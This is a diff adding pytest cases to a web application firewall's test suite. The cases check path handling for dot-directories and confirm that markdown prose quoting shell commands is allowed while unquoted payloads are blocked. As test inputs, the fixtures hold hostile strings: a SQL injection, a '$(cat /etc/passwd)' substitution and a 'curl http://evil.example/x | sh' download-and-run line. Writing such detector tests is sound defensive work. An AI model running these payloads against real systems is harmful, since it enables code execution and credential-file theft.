@@ -342,3 +342,37 @@ def test_review_prose_with_more_function_words_reads_as_prose() -> None:
     verdict = WAF.inspect(json_request(text, "body"))
     assert not verdict.blocked, verdict.matches
     assert WAF.inspect(json_request("' OR 1=1 --", "body")).blocked
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "~/.config/app/settings.json",
+        ".github/workflows/ci.yml",
+        "node_modules/.bin/eslint",
+        ".env.example",
+    ],
+)
+def test_dot_directories_as_query_values_pass_and_as_paths_block(value: str) -> None:
+    assert not WAF.inspect(query_request(value)).blocked, value
+    assert WAF.inspect(_path("/" + value.lstrip("~/"))).blocked, value
+
+
+# -- markdown syntax is prose, not code -------------------------------------------------------
+@pytest.mark.parametrize(
+    "text",
+    [
+        "> **Warning**\n> Do not run `rm -rf /` on production.",
+        "## Usage\n\n```bash\n$ docker run -v $(pwd):/app image\n```",
+        "- [ ] rotate keys (`ramparts keys rotate`)\n- [x] run `whoami; id` on the box",
+    ],
+)
+def test_markdown_headings_quotes_and_lists_do_not_make_text_code(text: str) -> None:
+    verdict = WAF.inspect(json_request(text, "body"))
+    assert not verdict.blocked, verdict.matches
+    assert all(m.quoted for m in verdict.matches)
+
+
+def test_markdown_decoration_does_not_hide_an_unquoted_payload() -> None:
+    assert WAF.inspect(json_request("## x\n\n**a** $(cat /etc/passwd)", "body")).blocked
+    assert WAF.inspect(json_request("> note\n\nx; curl http://evil.example/x | sh", "body")).blocked
